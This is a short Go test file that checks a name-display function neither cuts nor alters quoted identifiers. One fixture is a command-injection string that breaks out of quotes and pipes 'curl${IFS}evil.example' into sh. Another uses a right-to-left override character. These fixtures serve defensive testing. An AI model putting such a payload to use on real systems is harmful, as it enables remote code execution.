package statuspage

import (
	"strings"
	"testing"
)

// A command is never cut: a part of a quoted name may be a command of its own.
func TestCommandsAreWhole(t *testing.T) {
	t.Parallel()
	id := strings.Repeat("x", 100) + "';curl${IFS}evil.example|sh;#" + strings.Repeat("'", 100)
	if got := whole(word(id)); got != word(id) {
		t.Errorf("%s is shown as %s", word(id), got)
	}
	if got := whole("a\u202eb\nc"); got != `a\u202eb\nc` {
		t.Errorf("%q", got)
	}
}
